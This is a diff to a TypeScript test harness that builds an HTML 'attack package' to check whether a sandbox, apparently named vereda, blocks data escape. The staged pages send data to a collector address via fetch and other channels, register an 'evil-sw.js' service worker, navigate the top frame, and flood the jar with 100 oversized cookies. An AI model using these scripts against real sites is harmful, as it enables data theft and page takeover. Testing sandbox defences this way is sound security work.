@@ -52,8 +52,6 @@ export const CHANNELS = [
 /** What the policy's `webrtc 'block'` will close where a browser obeys it; Chromium does not yet (docs/decisions/what-stays-open.md). */
 export const OPEN_CHANNELS: readonly string[] = ['webrtc']
 
-const out = (collector: string, channel: string) => `${collector}/out?channel=${channel}`
-
 /** Scripts of the channels, each with the address it is to reach in `u`. */
 const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
   fetch: 'fetch(u).catch(() => {})',
@@ -174,7 +172,7 @@ const thefts = {
     await within(new Promise((resolve) => { f.onload = resolve }), 1500)
     return f.contentWindow.localStorage.getItem('save') === 'other save'
   },
-  popup: async () => { const w = bare.open(COLLECTOR + '/out?channel=popup'); return Boolean(w) },
+  popup: async () => { const w = bare.open(POPUP); return Boolean(w) },
   'worker-takeover': async () => {
     const registration = await within(navigator.serviceWorker.register(new URL('evil-sw.js', location.href).href), 2000)
     return Boolean(registration)
@@ -211,14 +209,15 @@ const seen = () => jar.get.call(document)`
 const page = (body: string) =>
   `<!doctype html><meta charset="utf-8"><title>Attack</title><body><script>${TOOLS}\n${body}</script></body>`
 
-export type AttackTargets = { app: string; other: string; collector: string }
+/** Where the app and the other package are, and which foreign address each channel is to reach. */
+export type AttackTargets = { app: string; other: string; addressOf: (channel: string) => string }
 
 /** The package; `steal.html` and `out.html` report with a finish, the others act and are seen by the collector alone. */
-export function attackPackage({ app, other, collector }: AttackTargets): StagedFiles {
-  const names = `const APP = ${JSON.stringify(app)}, OTHER = ${JSON.stringify(other)}, COLLECTOR = ${JSON.stringify(collector)}`
+export function attackPackage({ app, other, addressOf }: AttackTargets): StagedFiles {
+  const names = `const APP = ${JSON.stringify(app)}, OTHER = ${JSON.stringify(other)}, POPUP = ${JSON.stringify(addressOf('popup'))}`
   const channels = CHANNELS.map(
     (channel) =>
-      `try { (() => { const u = ${JSON.stringify(out(collector, channel))}; ${CHANNEL_SCRIPTS[channel]} })() } catch {}`,
+      `try { (() => { const u = ${JSON.stringify(addressOf(channel))}; ${CHANNEL_SCRIPTS[channel]} })() } catch {}`,
   )
   const report = "parent.postMessage({ vereda: 'finish', objectData: got }, '*')"
   return {
@@ -232,9 +231,9 @@ for (const [name, attempt] of Object.entries(thefts)) {
 ${report}
 function await_(value) { return value }`).replace('<script>', '<script type="module">'),
     'out.html': page(`${names}\nconst got = []\n${channels.join('\n')}\nsetTimeout(() => ${report}, 4000)`),
-    'navigate-self.html': page(`location = ${JSON.stringify(out(collector, 'own-frame'))}`),
-    'navigate-player.html': page(`${AROUND}.location = ${JSON.stringify(out(collector, 'player-frame'))}`),
-    'navigate-top.html': page(`try { ${TOP}.location = ${JSON.stringify(out(collector, 'top'))} } catch {}`),
+    'navigate-self.html': page(`location = ${JSON.stringify(addressOf('own-frame'))}`),
+    'navigate-player.html': page(`${AROUND}.location = ${JSON.stringify(addressOf('player-frame'))}`),
+    'navigate-top.html': page(`try { ${TOP}.location = ${JSON.stringify(addressOf('top'))} } catch {}`),
     'port.html': page(`${PORT_SCRIPT}\n${'add("script", { src: "asks-at-once.js" }).onload = steal'}`),
     'cookies.html': page(`${ALL_COOKIES}
 for (let i = 0; i < 100; i++) write('planted' + i + '=' + 'x'.repeat(3900) + '; domain=vereda.localhost; path=/; max-age=31536000')
